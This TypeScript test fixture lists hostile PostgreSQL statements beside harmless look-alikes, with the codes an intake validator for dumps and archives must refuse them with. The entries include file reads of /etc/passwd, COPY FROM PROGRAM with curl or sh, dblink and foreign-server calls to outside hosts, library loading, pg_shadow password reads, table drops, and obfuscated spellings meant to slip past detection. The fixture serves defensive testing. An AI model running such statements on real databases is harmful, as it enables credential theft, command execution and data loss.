// Hostile statements beside harmless ones of the same shape. Each is put into a plain dump and into
// the table of contents of an archive; the codes are the exact set that intake must refuse it with.
import type { Code } from '../../harness/kernel/index.ts';

export interface Attack {
  readonly name: string;
  readonly sql: string;
  readonly codes: readonly Code[];
  /** The same shape, harmless. */
  readonly control: string;
  /** For an archive, where a definition may not hold what a plain dump may. */
  readonly archiveControl?: string;
}

const plpgsql = (body: string): string =>
  `CREATE FUNCTION app.sly() RETURNS void LANGUAGE plpgsql AS $body$\nBEGIN\n${body}\nEND\n$body$;`;

export const ATTACKS: readonly Attack[] = [
  {
    name: 'a foreign server',
    sql: "CREATE SERVER prod FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.example.org');",
    codes: ['HOSTILE_FOREIGN_SERVER'],
    control: 'CREATE SCHEMA prod;',
  },
  {
    name: 'a foreign table that reads a file',
    sql: "CREATE FOREIGN TABLE app.etc (line text) SERVER files OPTIONS (filename '/etc/passwd');",
    codes: ['HOSTILE_FOREIGN_SERVER'],
    control: 'CREATE TABLE app.etc (line text);',
  },
  {
    name: 'an import of a foreign schema',
    sql: 'IMPORT FOREIGN SCHEMA public FROM SERVER prod INTO app;',
    codes: ['HOSTILE_FOREIGN_SERVER'],
    control: "COMMENT ON SCHEMA app IS 'IMPORT FOREIGN SCHEMA public FROM SERVER prod INTO app';",
  },
  {
    name: 'the extension of foreign tables',
    sql: 'CREATE EXTENSION IF NOT EXISTS postgres_fdw WITH SCHEMA app;',
    codes: ['HOSTILE_FOREIGN_SERVER'],
    control: 'CREATE EXTENSION IF NOT EXISTS citext WITH SCHEMA app;',
  },
  {
    name: 'a user mapping with a password',
    sql: "CREATE USER MAPPING FOR rich_owner SERVER prod OPTIONS (password 'hunter2');",
    codes: ['HOSTILE_USER_MAPPING'],
    control: 'CREATE POLICY mapping ON app.parent FOR SELECT TO rich_owner USING (true);',
  },
  {
    name: 'a subscription',
    sql: "CREATE SUBSCRIPTION sly CONNECTION 'host=db.example.org' PUBLICATION p WITH (connect = false);",
    codes: ['HOSTILE_SUBSCRIPTION'],
    control: 'CREATE PUBLICATION sly FOR TABLE app.parent;',
  },
  {
    name: 'dblink in a view',
    sql: "CREATE VIEW app.sly AS SELECT * FROM app.dblink('host=x', 'SELECT 1') AS t(a integer);",
    codes: ['HOSTILE_DBLINK'],
    control: "CREATE VIEW app.sly AS SELECT * FROM (VALUES ('dblink(1)')) AS t(a);",
  },
  {
    name: 'dblink in a default, its name in unicode escapes',
    sql: 'CREATE TABLE app.sly (a text DEFAULT U&"\\0064blink_connect"(\'host=x\'));',
    codes: ['HOSTILE_DBLINK'],
    control: 'CREATE TABLE app.sly (a text DEFAULT lower(\'host=x\'), "dblink_connect" text);',
  },
  {
    name: 'dblink in a check',
    sql: "ALTER TABLE app.parent ADD CONSTRAINT sly CHECK (app.dblink_exec('x', 'y') IS NOT NULL);",
    codes: ['HOSTILE_DBLINK'],
    control: 'ALTER TABLE app.parent ADD CONSTRAINT sly CHECK (length(name) > 0);',
  },
  {
    name: "dblink in a function's body",
    sql: plpgsql("  PERFORM app.dblink_connect('host=x');"),
    codes: ['HOSTILE_DBLINK'],
    control: plpgsql("  -- app.dblink_connect('host=x')\n  PERFORM 1;"),
  },
  {
    name: 'dblink in a string that a body runs',
    sql: plpgsql("  EXECUTE 'SELECT ' || E'dbl\\x69nk(''host=x'')';"),
    codes: ['HOSTILE_DBLINK'],
    control: plpgsql("  EXECUTE 'SELECT ' || E'lo\\x77er(''host=x'')';"),
  },
  {
    name: 'dblink as a trigger',
    sql: 'CREATE TRIGGER sly AFTER INSERT ON app.parent EXECUTE FUNCTION app.dblink_get_result();',
    codes: ['HOSTILE_DBLINK'],
    control:
      "CREATE TRIGGER sly AFTER INSERT ON app.parent EXECUTE FUNCTION app.touch('dblink_exec');",
  },
  {
    name: 'the extension dblink',
    sql: 'CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA app;',
    codes: ['HOSTILE_DBLINK'],
    control: "COMMENT ON EXTENSION hstore IS 'not dblink';",
  },
  {
    name: 'a program that COPY reads',
    sql: "COPY app.parent (name) FROM PROGRAM 'curl http://db.example.org';",
    codes: ['HOSTILE_COPY_PROGRAM'],
    control: "COMMENT ON TABLE app.parent IS 'COPY t FROM PROGRAM ''curl''';",
  },
  {
    name: 'a program that a body runs',
    sql: plpgsql("  EXECUTE format('COPY app.parent TO PROGRAM %L', 'sh');"),
    codes: ['HOSTILE_COPY_PROGRAM'],
    control: plpgsql("  RAISE NOTICE 'nobody copies to a program here';"),
  },
  {
    name: 'a file that COPY reads',
    sql: "COPY app.parent (name) FROM '/etc/passwd';",
    codes: ['HOSTILE_FILE_ACCESS'],
    control: "COMMENT ON TABLE app.parent IS '/etc/passwd';",
  },
  {
    name: 'a file that a view reads',
    sql: "CREATE VIEW app.sly AS SELECT pg_catalog.pg_read_file('/etc/passwd');",
    codes: ['HOSTILE_FILE_ACCESS'],
    control: "CREATE VIEW app.sly AS SELECT pg_catalog.upper('/etc/passwd');",
  },
  {
    name: 'a file that a large object takes in',
    sql: "SELECT pg_catalog.lo_import('/etc/passwd');",
    codes: ['HOSTILE_FILE_ACCESS', 'HOSTILE_STATEMENT'],
    control: "SELECT pg_catalog.lo_create('99001');",
    archiveControl: "SELECT pg_catalog.setval('app.free', 15, true);",
  },
  {
    name: 'a file that an operator reads',
    sql: 'CREATE OPERATOR app.<<< (FUNCTION = pg_catalog.pg_read_file, RIGHTARG = text);',
    codes: ['HOSTILE_FILE_ACCESS'],
    control: 'CREATE OPERATOR app.<<< (FUNCTION = pg_catalog.upper, RIGHTARG = text);',
  },
  {
    name: 'a file that SQL in an XML function reads',
    sql: "CREATE VIEW app.sly AS SELECT query_to_xml('SELECT pg_read_file(''x'')', true, true, '');",
    codes: ['HOSTILE_FILE_ACCESS'],
    control: "CREATE VIEW app.sly AS SELECT query_to_xml('SELECT 1', true, true, '');",
  },
  {
    name: "a grant on the server's files",
    sql: 'GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO PUBLIC;',
    codes: ['HOSTILE_FILE_ACCESS'],
    control: 'GRANT EXECUTE ON FUNCTION pg_catalog.pg_stat_reset() TO rich_owner;',
  },
  {
    name: 'a setting of the whole server',
    sql: "ALTER SYSTEM SET log_line_prefix = 'x';",
    codes: ['HOSTILE_ALTER_SYSTEM'],
    control: "ALTER DATABASE rich SET log_error_verbosity = 'terse';",
  },
  {
    name: 'a library',
    sql: "LOAD '/tmp/sly.so';",
    codes: ['HOSTILE_LOAD'],
    control: "SET client_min_messages = 'warning';",
  },
  {
    name: 'a library at every login',
    sql: "ALTER DATABASE rich SET session_preload_libraries = 'sly';",
    codes: ['HOSTILE_LOAD'],
    control: "ALTER DATABASE rich SET work_mem = '8MB';",
  },
  {
    name: 'a library that a function brings along',
    sql: "CREATE FUNCTION app.sly() RETURNS integer LANGUAGE sql SET local_preload_libraries = 'sly' AS 'SELECT 1';",
    codes: ['HOSTILE_LOAD'],
    control:
      "CREATE FUNCTION app.sly() RETURNS integer LANGUAGE sql SET work_mem = '8MB' AS 'SELECT 1';",
  },
  {
    name: 'a connection in the settings of a role',
    sql: "ALTER ROLE rich_owner IN DATABASE rich SET primary_conninfo = 'host=db.example.org';",
    codes: ['HOSTILE_SETTING'],
    control: "ALTER ROLE rich_owner IN DATABASE rich SET application_name = 'host=db.example.org';",
  },
  {
    name: 'another identity at every login',
    sql: "ALTER DATABASE rich SET session_authorization = 'rich_owner';",
    codes: ['HOSTILE_SETTING'],
    control: "ALTER DATABASE rich SET application_name = 'rich_owner';",
  },
  {
    name: 'other quoting for all that a function runs',
    sql: "CREATE FUNCTION app.sly() RETURNS integer LANGUAGE sql SET standard_conforming_strings = 'off' AS 'SELECT 1';",
    codes: ['INTAKE_UNPARSABLE'],
    control:
      "CREATE FUNCTION app.sly() RETURNS integer LANGUAGE sql SET standard_conforming_strings = 'on' AS 'SELECT 1';",
  },
  {
    name: 'other quoting out of a body',
    sql: plpgsql("  PERFORM set_config('standard_conforming_strings', 'off', false);"),
    codes: ['INTAKE_UNPARSABLE'],
    control: plpgsql("  PERFORM set_config('app.strings', 'off', false);"),
  },
  {
    name: 'an encoding at every login in which a quote is half a character',
    sql: "ALTER DATABASE rich SET client_encoding = 'SJIS';",
    codes: ['INTAKE_UNPARSABLE'],
    control: "ALTER DATABASE rich SET client_encoding = 'UTF8';",
  },
  {
    name: 'triggers and keys that hold for nobody',
    sql: "ALTER DATABASE rich SET session_replication_role = 'replica';",
    codes: ['HOSTILE_SETTING'],
    control: "ALTER DATABASE rich SET search_path = 'replica';",
  },
  {
    name: "the server's rules of access in a view",
    sql: 'CREATE VIEW app.sly AS SELECT * FROM pg_catalog.pg_hba_file_rules;',
    codes: ['HOSTILE_FILE_ACCESS'],
    control: 'CREATE VIEW app.sly AS SELECT * FROM pg_catalog.pg_settings;',
  },
  {
    name: "a slot that keeps the whole server's log",
    sql: plpgsql("  PERFORM pg_create_physical_replication_slot('sly', true);"),
    codes: ['HOSTILE_ALTER_SYSTEM'],
    control: plpgsql('  PERFORM pg_size_pretty(1::bigint);'),
  },
  {
    name: 'dblink in a body, spelled with an escape character of its own',
    sql: plpgsql("  PERFORM app.U&\"z0064blink\" UESCAPE 'z' ('host=x');"),
    codes: ['HOSTILE_DBLINK'],
    control: plpgsql("  PERFORM app.U&\"z0064one\" UESCAPE 'z' ('host=x');"),
  },
  {
    name: 'dblink in quotes, behind a byte of another encoding',
    sql: plpgsql("  PERFORM E'\\xe9';\n  PERFORM app.\"dblink\"('host=x');"),
    codes: ['HOSTILE_DBLINK'],
    control: plpgsql("  PERFORM E'\\xe9';\n  PERFORM app.\"lower\"('host=x');"),
  },
  {
    name: 'dblink in SQL that a view joins',
    sql: "CREATE VIEW app.sly AS SELECT query_to_xml('SELECT dbl'::text || 'ink(1)'::text, true, true, '');",
    codes: ['HOSTILE_DBLINK'],
    control:
      "CREATE VIEW app.sly AS SELECT query_to_xml('SELECT lo'::text || 'wer(1)'::text, true, true, '');",
  },
  {
    name: 'a function in C',
    sql: "CREATE FUNCTION app.sly() RETURNS integer LANGUAGE c AS '/tmp/sly.so', 'sly';",
    codes: ['HOSTILE_LANGUAGE'],
    control: "CREATE FUNCTION app.sly() RETURNS integer LANGUAGE sql AS 'SELECT 1';",
  },
  {
    name: 'a function that gives a built-in one another name',
    sql: "CREATE FUNCTION app.sly(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all';",
    codes: ['HOSTILE_LANGUAGE'],
    control: "CREATE FUNCTION app.sly(text) RETURNS text LANGUAGE sql AS 'SELECT $1';",
  },
  {
    name: 'a function in Python',
    sql: "CREATE FUNCTION app.sly() RETURNS text LANGUAGE plpython3u AS 'import os';",
    codes: ['HOSTILE_LANGUAGE'],
    control: "CREATE FUNCTION app.sly() RETURNS text LANGUAGE sql AS 'SELECT ''import os''';",
  },
  {
    name: 'a language',
    sql: 'CREATE TRUSTED PROCEDURAL LANGUAGE sly HANDLER app.sly;',
    codes: ['HOSTILE_LANGUAGE'],
    control: 'GRANT ALL ON LANGUAGE plpgsql TO rich_owner;',
  },
  {
    name: 'an event trigger',
    sql: 'CREATE EVENT TRIGGER sly ON ddl_command_end EXECUTE FUNCTION app.touch();',
    codes: ['HOSTILE_EVENT_TRIGGER'],
    control:
      'CREATE TRIGGER sly BEFORE INSERT ON app.parent FOR EACH ROW EXECUTE FUNCTION app.touch();',
  },
  {
    name: 'a DO block',
    sql: 'DO $$ BEGIN PERFORM 1; END $$;',
    codes: ['HOSTILE_STATEMENT'],
    control: plpgsql('  PERFORM 1;'),
  },
  {
    name: 'a DO block that reaches out',
    sql: "DO $$ BEGIN PERFORM dblink_connect('host=x'); END $$;",
    codes: ['HOSTILE_DBLINK', 'HOSTILE_STATEMENT'],
    control: plpgsql("  PERFORM upper('host=x');"),
  },
  {
    name: 'a row that calls a function',
    sql: 'INSERT INTO app.typed VALUES (1, (SELECT passwd FROM pg_shadow LIMIT 1));',
    codes: ['HOSTILE_STATEMENT'],
    control: "COMMENT ON TABLE app.typed IS '(SELECT passwd FROM pg_shadow LIMIT 1)';",
  },
  {
    name: 'rows that are deleted',
    sql: 'DELETE FROM app.parent;',
    codes: ['HOSTILE_STATEMENT'],
    control: 'CREATE RULE sly AS ON DELETE TO app.parent DO INSTEAD NOTHING;',
  },
  {
    name: 'a table that is gone again',
    sql: 'DROP TABLE app.parent;',
    codes: ['HOSTILE_STATEMENT'],
    control: "COMMENT ON TABLE app.parent IS 'DROP TABLE app.parent';",
  },
  {
    name: 'a constraint that is gone again',
    sql: 'ALTER TABLE app.parent DROP CONSTRAINT name_is_there;',
    codes: ['HOSTILE_STATEMENT'],
    control: 'ALTER TABLE app.parent ADD CONSTRAINT more CHECK (id > 0);',
  },
  {
    name: 'a catalog that is written',
    sql: "UPDATE pg_catalog.pg_database SET datistemplate = true, datallowconn = true WHERE datname = 'x';",
    codes: ['HOSTILE_STATEMENT'],
    control: "UPDATE pg_catalog.pg_database SET datistemplate = false WHERE datname = 'x';",
  },
  {
    name: 'a call by SELECT',
    sql: 'SELECT app.defined();',
    codes: ['HOSTILE_STATEMENT'],
    control: "SELECT pg_catalog.setval('app.free', 20, true);",
  },
  {
    name: 'a membership in roles that read files',
    sql: 'GRANT pg_read_server_files TO rich_owner;',
    codes: ['HOSTILE_FILE_ACCESS', 'INTAKE_CLUSTER_DUMP'],
    control: 'GRANT SELECT ON TABLE app.parent TO pg_read_all_data;',
  },
];

const written = (value: string): string =>
  [
    'BEGIN;',
    "SELECT pg_catalog.lo_open('99001', 131072);",
    `SELECT pg_catalog.lowrite(0, '${value}');`,
    'SELECT pg_catalog.lo_close(0);',
    'COMMIT;',
  ].join('\n');

/** What the server reads as other bytes than stand there. */
const MISSPELLED: readonly Attack[] = [
  {
    name: 'an address in a large object, in octal numbers',
    sql: written('postgres:\\057\\057sly@db.example.org'),
    codes: ['HOSTILE_STATEMENT'],
    control: written('\\x706f7374677265733a2f2f'),
  },
];

/** Lines that psql alone reads; archives have none. */
const LINES: readonly Attack[] = [
  '\\! touch /tmp/owned',
  "\\copy app.parent from '/etc/passwd'",
  '\\i /etc/passwd',
  '\\o /tmp/owned',
  '\\set ON_ERROR_STOP off',
  '\\connect host=db.example.org',
  '\\restrict a \\! id',
].map((line) => ({
  name: `the meta-command ${line}`,
  sql: line,
  codes: ['INTAKE_META_COMMAND'],
  control: `-- ${line}`,
}));

/** In plain dumps alone. */
export const META_ATTACKS: readonly Attack[] = [...LINES, ...MISSPELLED];
